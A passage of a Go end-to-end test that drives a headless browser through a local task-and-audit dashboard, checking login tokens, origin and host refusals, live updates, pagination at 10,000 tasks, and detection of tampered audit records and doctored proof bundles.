package e2e

import (
	"bytes"
	"context"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/browser"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
	bolt "go.etcd.io/bbolt"
)

// chromiumPath finds a Chromium the test can drive, or "".
func chromiumPath() string {
	for _, n := range []string{"chromium", "chromium-browser", "google-chrome", "google-chrome-stable"} {
		if p, err := exec.LookPath(n); err == nil {
			return p
		}
	}
	return ""
}

// uiURL runs `cairn ui --print-url` and returns the first line of stdout.
func uiURL(t *testing.T, w *workspace, env []string, extra ...string) string {
	t.Helper()
	code, out, errOut := runCairn(t, w, "", env, append([]string{"ui", "--print-url"}, extra...)...)
	if code != 0 {
		t.Fatalf("cairn ui --print-url: exit %d\n%s", code, errOut)
	}
	first := strings.SplitN(out, "\n", 2)[0]
	if !strings.HasPrefix(first, "http://127.0.0.1:") || !strings.Contains(first, "/login?token=") {
		t.Fatalf("first line of stdout %q is not a login URL", first)
	}
	return first
}

// bearerTransport sends a session secret in every request's Authorization
// header, as the dashboard's pages do.
type bearerTransport struct{ session string }

func (b bearerTransport) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	r.Header.Set("Authorization", "Bearer "+b.session)
	return http.DefaultTransport.RoundTrip(r)
}

// exchangeToken posts a login URL's token to the dashboard as its login
// page does, from the dashboard's own origin, and returns the status and
// the session secret.
func exchangeToken(t *testing.T, login string) (int, string) {
	t.Helper()
	base := login[:strings.Index(login, "/login")]
	tok := login[strings.Index(login, "token=")+len("token="):]
	req, _ := http.NewRequest("POST", base+"/api/login", strings.NewReader(`{"token":"`+tok+`"}`))
	req.Header.Set("Origin", base)
	req.Header.Set("Content-Type", "application/json")
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	var out struct {
		Session string `json:"session"`
	}
	_ = json.NewDecoder(res.Body).Decode(&out)
	return res.StatusCode, out.Session
}

// loggedInClient logs a Go HTTP client in with a fresh token.
func loggedInClient(t *testing.T, login string) *http.Client {
	t.Helper()
	code, session := exchangeToken(t, login)
	if code != 200 || session == "" {
		t.Fatalf("login: %d", code)
	}
	return &http.Client{Transport: bearerTransport{session}, Timeout: 30 * time.Second}
}

func artifactDir(t *testing.T) string {
	if d := os.Getenv("CAIRN_ARTIFACTS"); d != "" {
		_ = os.MkdirAll(d, 0o755)
		return d
	}
	return t.TempDir()
}

func screenshot(t *testing.T, ctx context.Context, dir, name string) {
	t.Helper()
	var buf []byte
	if err := chromedp.Run(ctx, chromedp.Sleep(150*time.Millisecond), chromedp.CaptureScreenshot(&buf)); err != nil {
		t.Fatalf("screenshot %s: %v", name, err)
	}
	p := filepath.Join(dir, "dashboard-"+name+".png")
	if err := os.WriteFile(p, buf, 0o644); err != nil {
		t.Fatal(err)
	}
	t.Logf("screenshot %s", p)
}

func TestUIDashboardInBrowser(t *testing.T) {
	chrome := chromiumPath()
	if chrome == "" {
		t.Skip("no chromium binary found (apt-get install chromium); the dashboard's browser test cannot run")
	}
	w := newWorkspace(t)
	// CAIRN_ENV=development lets webhooks post to loopback receivers.
	env := []string{"CAIRN_DAEMON=on", "CAIRN_DAEMON_IDLE=60s", "CAIRN_PROJECT=web", "CAIRN_USER=alice", "CAIRN_LOG_LEVEL=info", "CAIRN_ENV=development"}
	t.Cleanup(func() { runCairn(t, w, "", env, "stop") })

	// A trail to tamper with: T-1 with three thoughts, sealed in A-1; then
	// rewrite thought 2 in the store while no daemon runs.
	w.addPlugin("semver", semverBin) // a workspace plugin the operator trusts
	agent := w.serve(append(env, "CAIRN_AGENT_ID=agent-a")...)
	tampered := taskID(t, agent, map[string]any{"title": "Write the parser", "project": "web", "priority": "high"})
	for _, c := range []string{"one", "two", "three"} {
		ok(t, agent, "thought_record", map[string]any{"task_id": tampered, "type": "decision", "content": c, "branch": "main", "commit_sha": "abc123", "tests_run": []string{"TestParse"}})
	}
	sealed := ok(t, agent, "audit_session_start", map[string]any{"task_id": tampered, "auditor_id": "reviewer"})["session_id"].(string)
	ok(t, agent, "merkle_finalize", map[string]any{"session_id": sealed})
	firstURL := uiURL(t, w, env)
	firstPort := strings.TrimPrefix(firstURL[:strings.Index(firstURL, "/login")], "http://127.0.0.1:")
	agent.close()
	if code, _, errOut := runCairn(t, w, "", env, "stop"); code != 0 {
		t.Fatalf("stop: %s", errOut)
	}
	tamperThought(t, w, 1, 2, "two", "TWO")

	login := uiURL(t, w, env, "--allow-actions") // starts the daemon again
	base := login[:strings.Index(login, "/login")]
	port := strings.TrimPrefix(base, "http://127.0.0.1:")
	// The port was chosen at the daemon's first start and kept.
	if first := firstPort; first != port {
		t.Errorf("the dashboard moved from port %s to %s across a daemon restart", first, port)
	}
	agent = w.serve(append(env, "CAIRN_AGENT_ID=agent-a")...)
	moved := taskID(t, agent, map[string]any{"title": "Review the lexer", "project": "web", "labels": []string{"parser", "review"}})
	// A sub-task and a task that waits on it give the card its counts;
	// one more in progress shows a progress bar and an assignee.
	taskID(t, agent, map[string]any{"title": "Tokenize numbers", "project": "web", "parent_id": moved, "priority": "low"})
	waiter := taskID(t, agent, map[string]any{"title": "Ship the parser", "project": "web", "depends_on": []string{moved}, "priority": "critical"})
	busy := taskID(t, agent, map[string]any{"title": "Speed up hashing", "project": "web", "labels": []string{"perf"}})
	for _, st := range []string{"todo", "in_progress"} {
		ok(t, agent, "task_update", map[string]any{"task_id": busy, "status": st})
	}
	ok(t, agent, "task_update", map[string]any{"task_id": busy, "progress": 60, "assignee": "agent-a"})

	// Webhooks with deliveries for the system page: one receiver accepts,
	// one answers 503 (a delivery to retry, with its attempts).
	okHook := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(200) }))
	defer okHook.Close()
	downHook := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(503) }))
	defer downHook.Close()
	ops := w.serve(append(env, "CAIRN_AGENT_ID=ops-agent", "CAIRN_TOOLSETS=core,sdd,admin")...)
	for _, u := range []string{okHook.URL + "/hook", downHook.URL + "/hook"} {
		hook := ok(t, ops, "admin_webhook_register", map[string]any{"url": u, "event_types": []string{"audit.*"}})["webhook"].(map[string]any)
		ops.call("admin_webhook_test", map[string]any{"webhook_id": hook["id"]})
	}
	ops.close()

	// 10,000 tasks in project big, loaded in the background meanwhile.
	if code, _, errOut := runCairn(t, w, "", env, "project", "add", "big"); code != 0 {
		t.Fatalf("project add big: %s", errOut)
	}
	loader := w.serve(append(env, "CAIRN_AGENT_ID=loader")...)
	const n = 10000
	bulk := make(chan time.Duration, 1)
	go func() {
		var wg sync.WaitGroup
		start := time.Now()
		for g := 0; g < 8; g++ {
			wg.Add(1)
			go func(g int) {
				defer wg.Done()
				for i := g; i < n; i += 8 {
					res, err := loader.callCtx(context.Background(), "task_create", map[string]any{"title": fmt.Sprintf("Bulk task %d", i), "project": "big"})
					if err != nil || res.IsError {
						t.Errorf("bulk create %d: %v %v", i, err, res)
						return
					}
				}
			}(g)
		}
		wg.Wait()
		bulk <- time.Since(start)
	}()

	t.Run("refusals", func(t *testing.T) {
		res, err := http.Get(base + "/view/board")
		if err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
		if res.StatusCode != 401 {
			t.Errorf("no session: %d, want 401", res.StatusCode)
		}
		c := loggedInClient(t, uiURL(t, w, env, "--allow-actions"))
		for _, tc := range []struct {
			name, method, path, host, origin string
			want                             int
		}{
			{"session", "GET", "/view/board", "", "", 200},
			{"wrong host", "GET", "/view/board", "evil.example:" + port, "", 421},
			{"another port's origin", "GET", "/view/system", "", "http://127.0.0.1:1", 403},
			{"foreign origin", "POST", "/api/task/" + moved + "/action", "", "http://evil.example", 403},
			{"post without origin", "POST", "/api/task/" + moved + "/action", "", "", 403},
			{"foreign origin read", "GET", "/api/tasks", "", "http://evil.example", 403},
		} {
			req, _ := http.NewRequest(tc.method, base+tc.path, strings.NewReader(`{"action":"comment","content":"x"}`))
			if tc.host != "" {
				req.Host = tc.host
			}
			if tc.origin != "" {
				req.Header.Set("Origin", tc.origin)
			}
			res, err := c.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			res.Body.Close()
			if res.StatusCode != tc.want {
				t.Errorf("%s: %d, want %d", tc.name, res.StatusCode, tc.want)
			}
		}
		res, err = c.Get(base + "/api/tasks?limit=10000")
		if err != nil {
			t.Fatal(err)
		}
		var page struct {
			Tasks []any `json:"tasks"`
			Limit int   `json:"limit"`
		}
		_ = json.NewDecoder(res.Body).Decode(&page)
		res.Body.Close()
		if page.Limit != 50 || len(page.Tasks) > 50 {
			t.Errorf("limit=10000 answered %d tasks with limit %d, want at most the page size 50", len(page.Tasks), page.Limit)
		}
	})

	opts := append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath(chrome), chromedp.NoSandbox, chromedp.WindowSize(1280, 800), chromedp.Flag("disable-gpu", true))
	actx, cancelA := chromedp.NewExecAllocator(context.Background(), opts...)
	defer cancelA()
	// The Chromium of the day may send protocol values this cdproto does
	// not know; those decode errors are noise for this test.
	ctx, cancel := chromedp.NewContext(actx, chromedp.WithErrorf(func(string, ...any) {}))
	defer cancel()
	ctx, cancelT := context.WithTimeout(ctx, 150*time.Second)
	defer cancelT()
	art := artifactDir(t)
	card := func(id string) string { return fmt.Sprintf(`.card[data-task=%q]`, id) }
	chromedp.ListenTarget(ctx, func(ev any) { // the page's own errors and alerts, to read when a step fails
		switch e := ev.(type) {
		case *runtime.EventExceptionThrown:
			t.Logf("page exception: %s", e.ExceptionDetails.Error())
		case *page.EventJavascriptDialogOpening:
			t.Logf("page dialog: %s", e.Message)
		}
	})

	if err := chromedp.Run(ctx, chromedp.EmulateViewport(1280, 800), chromedp.Navigate(login), chromedp.WaitVisible(card(moved)), chromedp.WaitVisible(`#live.on`)); err != nil {
		t.Fatalf("log in and see the board: %v", err)
	}
	if code, _ := exchangeToken(t, login); code != 401 {
		t.Errorf("second use of a login token: %d, want 401", code)
	}
	// A marker that a reload would erase.
	if err := chromedp.Run(ctx, chromedp.Evaluate(`window.noReload = 1`, nil)); err != nil {
		t.Fatal(err)
	}
	other := w.serve(append(env, "CAIRN_AGENT_ID=agent-b")...)
	created := time.Now()
	fresh := taskID(t, other, map[string]any{"title": "Created by another session", "project": "web"})
	if err := chromedp.Run(ctx, chromedp.WaitVisible(card(fresh))); err != nil {
		t.Fatalf("task from another session never appeared: %v", err)
	}
	t.Logf("a task created through MCP by another session appeared on the board %s after task_create returned", time.Since(created).Round(time.Millisecond))
	var marker int
	if err := chromedp.Run(ctx, chromedp.Evaluate(`window.noReload`, &marker)); err != nil || marker != 1 {
		t.Fatalf("the page reloaded (marker %d, %v)", marker, err)
	}
	// Cards carry priority, assignee, labels, progress, and sub-task and
	// dependency counts.
	var cardText map[string]string
	if err := chromedp.Run(ctx, chromedp.Evaluate(fmt.Sprintf(`(() => { const t = (id) => document.querySelector('.card[data-task="' + id + '"]').innerText; return {moved: t(%q), waiter: t(%q), busy: t(%q)}; })()`, moved, waiter, busy), &cardText)); err != nil {
		t.Fatal(err)
	}
	for who, wants := range map[string][]string{
		"moved":  {"parser", "review", "1 sub-task", "1 wait on it", "0%"},
		"waiter": {"critical", "waits on 1"},
		"busy":   {"perf", "@agent-a", "60%"},
	} {
		for _, want := range wants {
			if !strings.Contains(cardText[who], want) {
				t.Errorf("card %s %q lacks %q", who, cardText[who], want)
			}
		}
	}

	// Move a card backlog → todo from the page, as alice.
	if err := chromedp.Run(ctx, chromedp.SetValue(card(moved)+` select`, "todo", chromedp.ByQuery), chromedp.Click(card(moved)+` button`, chromedp.ByQuery),
		chromedp.WaitVisible(`.column[data-status="todo"] `+card(moved), chromedp.ByQuery)); err != nil {
		t.Fatalf("move the card: %v", err)
	}
	got := ok(t, agent, "task_get", map[string]any{"task_id": moved})
	if got["status"] != "todo" || got["updated_by"] != "alice" {
		t.Fatalf("after the move: status %v updated_by %v, want todo by alice", got["status"], got["updated_by"])
	}
	screenshot(t, ctx, art, "board")
	// The same board on a phone: one column under another.
	if err := chromedp.Run(ctx, chromedp.EmulateViewport(390, 844, chromedp.EmulateScale(2), chromedp.EmulateMobile)); err != nil {
		t.Fatal(err)
	}
	var cols int
	_ = chromedp.Run(ctx, chromedp.Evaluate(`getComputedStyle(document.getElementById('board')).gridTemplateColumns.split(' ').length`, &cols))
	if cols != 1 {
		t.Errorf("the board on a phone has %d columns side by side, want 1", cols)
	}
	screenshot(t, ctx, art, "board-phone")
	if err := chromedp.Run(ctx, chromedp.EmulateViewport(1280, 800)); err != nil {
		t.Fatal(err)
	}

	// Task page: fields, trail and both chains.
	if err := chromedp.Run(ctx, chromedp.Navigate(base+"/task/"+tampered), chromedp.WaitVisible(`table.chain tbody tr`)); err != nil {
		t.Fatal(err)
	}
	var rows int
	_ = chromedp.Run(ctx, chromedp.Evaluate(`document.querySelectorAll('table.chain tbody tr').length`, &rows))
	if rows != 4 { // one event link (created) and three thoughts
		t.Errorf("task page shows %d chain links, want 4", rows)
	}
	screenshot(t, ctx, art, "task")
	// A thought an agent records appears on the open task page, no reload.
	if err := chromedp.Run(ctx, chromedp.Navigate(base+"/task/"+moved), chromedp.WaitVisible(`#live.on`), chromedp.Evaluate(`window.noReload = 2`, nil)); err != nil {
		t.Fatal(err)
	}
	ok(t, agent, "thought_record", map[string]any{"task_id": moved, "type": "discovery", "content": "The lexer drops a trailing newline"})
	if err := chromedp.Run(ctx, chromedp.WaitVisible(`//ol[@class="timeline"]/li[contains(., "drops a trailing newline")]`, chromedp.BySearch),
		chromedp.Evaluate(`window.noReload`, &marker)); err != nil || marker != 2 {
		t.Fatalf("the recorded thought did not appear live on the task page (marker %d): %v", marker, err)
	}

	// The audit page shows the tampered link at its position.
	if err := chromedp.Run(ctx, chromedp.Navigate(base+"/audits/"+sealed), chromedp.WaitVisible(`tr.broken[data-chain="thought"][data-position="2"]`, chromedp.ByQuery)); err != nil {
		t.Fatalf("audit page shows no broken link at thought position 2: %v", err)
	}
	var broken int
	_ = chromedp.Run(ctx, chromedp.Evaluate(`document.querySelectorAll('tr.broken').length`, &broken))
	if broken != 1 {
		t.Errorf("%d broken rows, want 1", broken)
	}
	var auditScope string
	if err := chromedp.Run(ctx, chromedp.Text(`dd[data-scope]`, &auditScope, chromedp.ByQuery)); err != nil || auditScope != "shallow" {
		t.Errorf("audit page scope %q (%v), want shallow", auditScope, err)
	}
	var noBundle int
	_ = chromedp.Run(ctx, chromedp.Evaluate(`document.querySelectorAll('[data-no-bundle]').length - document.querySelectorAll('a[href$="/bundle"]').length`, &noBundle))
	if noBundle != 1 {
		t.Errorf("the tampered session offers a bundle download")
	}
	screenshot(t, ctx, art, "audit")
	// The sdd page shows a lease issued by an agent without a reload.
	if err := chromedp.Run(ctx, chromedp.Navigate(base+"/sdd"), chromedp.WaitVisible(`main h1`), chromedp.WaitVisible(`#live.on`)); err != nil {
		t.Fatal(err)
	}
	ok(t, agent, "sdd_plan", map[string]any{"phase": "1", "context": "Parse the config language\n- lexer\n- parser\nsuccess: every example parses"})
	ok(t, agent, "sdd_skill", map[string]any{"action": "register", "skillId": "go-testing", "title": "Go testing", "description": "Table tests"})
	ok(t, agent, "sdd_skill", map[string]any{"action": "register", "skillId": "fuzzing", "title": "Fuzzing", "description": "Fuzz targets for parsers"})
	ok(t, agent, "sdd_skill", map[string]any{"action": "bind", "agentId": "sdd-planner", "skillId": "go-testing"})
	ok(t, agent, "sdd_skill", map[string]any{"action": "bind", "agentId": "sdd-verifier", "skillId": "fuzzing"})
	ok(t, agent, "sdd_agent", map[string]any{"action": "enqueue", "intent": "plan_phase"})
	lease := ok(t, agent, "sdd_lease", map[string]any{"action": "issue", "taskId": moved, "scope": []string{"lexer/"}})["lease"].(map[string]any)["leaseId"].(string)
	if err := chromedp.Run(ctx, chromedp.WaitVisible(fmt.Sprintf(`tr[data-lease=%q]`, lease), chromedp.ByQuery)); err != nil {
		t.Fatalf("the issued lease never appeared on the sdd page: %v", err)
	}
	var sdd map[string]any
	if err := chromedp.Run(ctx, chromedp.Evaluate(fmt.Sprintf(`({remaining: document.querySelector('tr[data-lease=%q] [data-remaining]').innerText,
		queued: document.querySelectorAll('table.queue tbody tr').length, history: document.querySelectorAll('table.history tbody tr').length,
		planner: document.querySelector('table.matrix tr[data-agent="sdd-planner"]').innerText, phases: document.querySelectorAll('#ph-h + table tbody tr').length})`, lease), &sdd)); err != nil {
		t.Fatalf("read the sdd page: %v", err)
	}
	if rem, _ := sdd["remaining"].(string); !strings.HasSuffix(rem, "s") || rem == "expired" {
		t.Errorf("lease remaining time %q", rem)
	}
	if sdd["queued"].(float64) < 1 || sdd["history"].(float64) < 1 || sdd["phases"].(float64) < 1 || !strings.Contains(sdd["planner"].(string), "✓") {
		t.Errorf("sdd page: %v, want a queue, a history, a phase and sdd-planner bound to a skill", sdd)
	}
	screenshot(t, ctx, art, "sdd")

	// System: plugins with trust state, sessions with agent, mode and
	// toolsets (this page's own keep-alive among them), webhook deliveries
	// with their attempts.
	var hooks string
	for deadline := time.Now().Add(20 * time.Second); ; {
		var n int
		if err := chromedp.Run(ctx, chromedp.Navigate(base+"/system"), chromedp.WaitVisible(`main h1`),
			chromedp.Evaluate(`[...document.querySelectorAll('table.deliveries [data-attempts]')].filter((td) => Number(td.innerText) >= 1).length`, &n),
			chromedp.Text(`section[aria-labelledby="wh-h"]`, &hooks, chromedp.ByQuery)); err != nil {
			t.Fatalf("system page: %v", err)
		}
		if n >= 2 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the system page never showed both webhooks' attempted deliveries: %s", hooks)
		}
		// A pause between page loads of a real browser.
		time.Sleep(500 * time.Millisecond)
	}
	var sys map[string]string
	// The page's own stream is a session too; the page shows it once the
	// stream is open (it refetches its content then).
	if err := chromedp.Run(ctx, chromedp.WaitVisible(`table.sessions tr[data-agent="cairn-ui (page open)"]`, chromedp.ByQuery)); err != nil {
		t.Fatalf("the system page never listed its own session: %v", err)
	}
	if err := chromedp.Run(ctx, chromedp.Evaluate(`({core: document.querySelector('tr[data-plugin="core"]').dataset.trust,
		semver: document.querySelector('tr[data-plugin="semver"]').dataset.trust,
		agent: document.querySelector('table.sessions tr[data-agent="agent-a"]').innerText,
		page: String(!!document.querySelector('table.sessions tr[data-agent="cairn-ui (page open)"]')),
		failed: document.querySelector('table.deliveries tr.broken, table.deliveries tr:has(.badge.bad)') ? "yes" : "no"})`, &sys)); err != nil {
		t.Fatalf("read the system page: %v", err)
	}
	if sys["core"] != "built in" || sys["semver"] != "trusted" || !strings.Contains(sys["agent"], "FULL") || !strings.Contains(sys["agent"], "web") || sys["page"] != "true" {
		t.Errorf("system page: %v", sys)
	}
	t.Logf("system page: %v", sys)
	screenshot(t, ctx, art, "system")
	if err := chromedp.Run(ctx, chromedp.Evaluate(`document.getElementById("wh-h").scrollIntoView({block: "start"})`, nil)); err != nil {
		t.Fatal(err)
	}
	screenshot(t, ctx, art, "system-webhooks")
	var scope string
	var broken0 int
	if err := chromedp.Run(ctx, chromedp.Navigate(base+"/audits"), chromedp.WaitVisible(`main h1`),
		chromedp.Text(fmt.Sprintf(`tr[data-session=%q] [data-scope]`, sealed), &scope, chromedp.ByQuery),
		chromedp.Evaluate(`document.querySelectorAll('table.audits tr.broken').length`, &broken0)); err != nil {
		t.Fatalf("audits page: %v", err)
	}
	if scope != "shallow" || broken0 != 1 {
		t.Errorf("audits page: %s scope %q, %d broken sessions; want shallow and 1", sealed, scope, broken0)
	}
	screenshot(t, ctx, art, "audits")

	// Actions through the page's API, as alice: a comment is a reflection
	// in the trail; refusals name the field; a read-only login may not act.
	t.Run("actions", func(t *testing.T) {
		post := func(c *http.Client, payload string) (int, map[string]any) {
			req, _ := http.NewRequest("POST", base+"/api/task/"+moved+"/action", strings.NewReader(payload))
			req.Header.Set("Origin", base)
			res, err := c.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			defer res.Body.Close()
			var out map[string]any
			_ = json.NewDecoder(res.Body).Decode(&out)
			return res.StatusCode, out
		}
		actor := loggedInClient(t, uiURL(t, w, env, "--allow-actions"))
		if code, out := post(actor, `{"action":"comment","content":"Looks right to me"}`); code != 200 {
			t.Fatalf("comment: %d %v", code, out)
		}
		th := ok(t, agent, "thought_record_list", map[string]any{"task_id": moved})["thoughts"].([]any)
		last := th[len(th)-1].(map[string]any)
		if last["type"] != "reflection" || last["recorded_by"] != "alice" || last["content"] != "Looks right to me" {
			t.Errorf("comment recorded as %v", last)
		}
		for _, tc := range []struct {
			payload, field string
			want           int
		}{
			{`{"action":"block"}`, "reason", 400},
			{`{"action":"assign"}`, "assignee", 400},
			{`{"action":"explode"}`, "action", 400},
			{`{"action":"move","status":"done"}`, "status", 400}, // todo → done is not a transition
		} {
			code, out := post(actor, tc.payload)
			e, _ := out["error"].(map[string]any)
			if code != tc.want || e == nil {
				t.Errorf("%s: %d %v, want %d", tc.payload, code, out, tc.want)
				continue
			}
			if d, _ := e["details"].(map[string]any); tc.field != "" && d["field"] != tc.field {
				t.Errorf("%s: details %v, want field %s", tc.payload, d, tc.field)
			}
		}
		reader := loggedInClient(t, uiURL(t, w, env))
		if code, out := post(reader, `{"action":"comment","content":"x"}`); code != 403 {
			t.Errorf("read-only login acted: %d %v", code, out)
		}
		// A read-only login still sees every page whole: its READONLY
		// session refuses writes, not the pages' reads.
		for _, pg := range []string{"/view/board", "/view/task/" + moved, "/view/audits", "/view/sdd", "/view/system", "/api/tasks?status=todo"} {
			res, err := reader.Get(base + pg)
			if err != nil {
				t.Fatal(err)
			}
			body, _ := io.ReadAll(res.Body)
			res.Body.Close()
			if res.StatusCode != 200 || bytes.Contains(body, []byte("READONLY")) || bytes.Contains(body, []byte("ERR_FORBIDDEN")) {
				t.Errorf("read-only %s: %d %s", pg, res.StatusCode, body)
			}
		}
	})

	// A sealed session over the moved task: its bundle downloads and
	// verifies, and its event chain names alice as the mover.
	proof := ok(t, agent, "audit_session_start", map[string]any{"task_id": moved, "auditor_id": "reviewer"})["session_id"].(string)
	ok(t, agent, "merkle_finalize", map[string]any{"session_id": proof})
	// Download it from the audit page, as a person would.
	dlDir := t.TempDir()
	downloaded := filepath.Join(dlDir, proof+".proof.json")
	if err := chromedp.Run(ctx, browser.SetDownloadBehavior(browser.SetDownloadBehaviorBehaviorAllow).WithDownloadPath(dlDir),
		chromedp.Navigate(base+"/audits/"+proof), chromedp.Click(`a[href$="/bundle"]`, chromedp.ByQuery)); err != nil {
		t.Fatalf("download the bundle from the page: %v", err)
	}
	// The page fetches the bundle with its session and saves it from a
	// blob; while 10,000 tasks are being created, the export alone can take
	// seconds on two shared cores.
	eventually(t, 60*time.Second, "the browser to save "+downloaded, func() bool {
		st, err := os.Stat(downloaded)
		return err == nil && st.Size() > 0
	})
	if code, out, errOut := runCairn(t, w, "", env, "audit", "verify", downloaded); code != 0 || !strings.HasPrefix(out, "OK: ") {
		t.Errorf("downloaded bundle does not verify: %s %s", out, errOut)
	} else {
		t.Logf("cairn audit verify on the downloaded bundle: %s", strings.TrimSpace(out))
	}
	// An open session has no bundle yet: refused, saying so.
	open := ok(t, agent, "audit_session_start", map[string]any{"task_id": moved, "auditor_id": "reviewer"})["session_id"].(string)
	c := loggedInClient(t, uiURL(t, w, env))
	if res, err := c.Get(base + "/api/audits/" + open + "/bundle"); err != nil || res.StatusCode != 409 {
		t.Errorf("bundle of an open session: %v %v, want 409", res.StatusCode, err)
	} else {
		res.Body.Close()
	}

	took := <-bulk
	t.Logf("created %d tasks through MCP in %s", n, took.Round(time.Millisecond))
	var firstMs, filterMs string
	var shown int
	if err := chromedp.Run(ctx, chromedp.Navigate(base+"/board?project=big"),
		chromedp.WaitVisible(`#board[data-first-render-ms]`, chromedp.ByQuery),
		chromedp.AttributeValue(`#board`, "data-first-render-ms", &firstMs, nil, chromedp.ByQuery),
		chromedp.Evaluate(`document.querySelectorAll('.column[data-status="backlog"] .card').length`, &shown)); err != nil {
		t.Fatalf("big board: %v", err)
	}
	t.Logf("10,000-task board: first render %s ms after navigation start", firstMs)
	if shown != 50 {
		t.Errorf("backlog column shows %d cards, want one page of 50", shown)
	}
	screenshot(t, ctx, art, "board-10k")
	// Scrolling a column to its end loads its next page.
	if err := chromedp.Run(ctx, chromedp.Evaluate(`(() => { const l = document.querySelector('.column[data-status="backlog"] [data-cards]'); l.scrollTop = l.scrollHeight; })()`, nil),
		chromedp.WaitVisible(`.column[data-status="backlog"] .card:nth-child(100)`, chromedp.ByQuery)); err != nil {
		t.Fatalf("scrolling the backlog column loaded no second page: %v", err)
	}
	if err := chromedp.Run(ctx, chromedp.SetValue(`#filters input[name="q"]`, "task 999", chromedp.ByQuery),
		chromedp.Click(`#filters button[type="submit"]`, chromedp.ByQuery),
		chromedp.WaitVisible(`#board[data-filter-ms]`, chromedp.ByQuery),
		chromedp.AttributeValue(`#board`, "data-filter-ms", &filterMs, nil, chromedp.ByQuery)); err != nil {
		t.Fatalf("filter: %v", err)
	}
	var count string
	_ = chromedp.Run(ctx, chromedp.Text(`.column[data-status="backlog"] [data-count]`, &count, chromedp.ByQuery))
	t.Logf("10,000-task board: filter change rendered in %s ms; backlog matches %s", filterMs, count)
	if count != "19" { // 999, 1999, …, 9999 and 9990–9998
		t.Errorf("search 'task 999' matched %s backlog tasks, want 19", count)
	}

	// Every task request the page made returns at most one page: fetch
	// each URL it requested again and count.
	var perRequest []int
	if err := chromedp.Run(ctx, chromedp.Evaluate(`Promise.all(performance.getEntriesByType("resource").map((e) => e.name).filter((u) => u.includes("/api/tasks")).map((u) => fetch(u, {headers: {Authorization: "Bearer " + sessionStorage.getItem("cairn.session")}}).then((r) => r.json()).then((j) => j.tasks.length)))`,
		&perRequest, func(p *runtime.EvaluateParams) *runtime.EvaluateParams { return p.WithAwaitPromise(true) })); err != nil {
		t.Fatal(err)
	}
	most := 0
	for _, k := range perRequest {
		most = max(most, k)
	}
	t.Logf("the page made %d task requests; the largest returned %d tasks", len(perRequest), most)
	if len(perRequest) < 15 || most != 50 {
		t.Errorf("task requests %v: want at least 15 (7 columns, twice, plus a scroll), none above 50", perRequest)
	}

	// Restart the daemon under the open page: offline, the moved task's
	// event chain names alice; back up, the stream resumes.
	for _, s := range []*session{agent, other, loader} {
		s.close()
	}
	if code, _, errOut := runCairn(t, w, "", env, "stop"); code != 0 {
		t.Fatalf("stop: %s", errOut)
	}
	if err := chromedp.Run(ctx, chromedp.WaitVisible(`#live.off`)); err != nil {
		t.Fatalf("the page did not notice the daemon stopping: %v", err)
	}
	exp := filepath.Join(w.root, "offline.proof.json")
	if code, _, errOut := runCairn(t, w, "", env, "audit", "export", proof, "-o", exp); code != 0 {
		t.Fatalf("export: %s", errOut)
	}
	var b struct {
		Records []struct {
			Chain      string `json:"chain"`
			RecordedBy string `json:"recorded_by"`
		} `json:"records"`
	}
	raw, _ := os.ReadFile(exp)
	_ = json.Unmarshal(raw, &b)
	byAlice := 0
	for _, r := range b.Records {
		if r.Chain == "event" && r.RecordedBy == "alice" {
			byAlice++
		}
	}
	if byAlice != 1 {
		t.Errorf("event-chain links by alice: %d, want 1 (the move); records %+v", byAlice, b.Records)
	}
	uiURL(t, w, env)
	if err := chromedp.Run(ctx, chromedp.WaitVisible(`#live.on`)); err != nil {
		t.Fatalf("the stream did not resume after the restart: %v", err)
	}

	// The audits page verifies an uploaded bundle server-side with `cairn
	// audit verify`'s verifier: the exported one passes, a doctored copy
	// fails naming what broke.
	if err := chromedp.Run(ctx, chromedp.Navigate(base+"/audits"), chromedp.WaitVisible(`#verify`),
		chromedp.SetUploadFiles(`#verify input[type="file"]`, []string{exp}, chromedp.ByQuery),
		chromedp.Click(`#verify button`, chromedp.ByQuery),
		chromedp.WaitVisible(`#verify-result.ok`, chromedp.ByQuery)); err != nil {
		t.Fatalf("verify the exported bundle in the page: %v", err)
	}
	doctored := filepath.Join(w.root, "doctored.proof.json")
	_ = os.WriteFile(doctored, bytes.Replace(raw, []byte("alice"), []byte("mallory"), 1), 0o644)
	if err := chromedp.Run(ctx, chromedp.SetUploadFiles(`#verify input[type="file"]`, []string{doctored}, chromedp.ByQuery),
		chromedp.Click(`#verify button`, chromedp.ByQuery),
		chromedp.WaitVisible(`#verify-result.error li`, chromedp.ByQuery)); err != nil {
		t.Fatalf("a doctored bundle was not refused in the page: %v", err)
	}
	var problems string
	_ = chromedp.Run(ctx, chromedp.Text(`#verify-result`, &problems, chromedp.ByQuery))
	t.Logf("doctored bundle: %s", problems)
	screenshot(t, ctx, art, "audits-verify")
}

// tamperThought rewrites a stored thought's content while no daemon holds
// the store, as trail_test.go does.
func tamperThought(t *testing.T, w *workspace, task uint64, pos uint64, from, to string) {
	t.Helper()
	db, err := bolt.Open(filepath.Join(w.dataDir(), "core.db"), 0o600, &bolt.Options{Timeout: 10 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	key := make([]byte, 17)
	binary.BigEndian.PutUint64(key, task)
	key[8] = 't'
	binary.BigEndian.PutUint64(key[9:], pos)
	if err := db.Update(func(tx *bolt.Tx) error {
		bk := tx.Bucket([]byte("chain_links"))
		v := append([]byte(nil), bk.Get(key)...)
		if bytes.Count(v, []byte(from)) != 1 {
			return fmt.Errorf("content %q not found once in %q", from, v)
		}
		return bk.Put(key, bytes.Replace(v, []byte(from), []byte(to), 1))
	}); err != nil {
		t.Fatal(err)
	}
}

// captured is one request a server on another loopback port received from
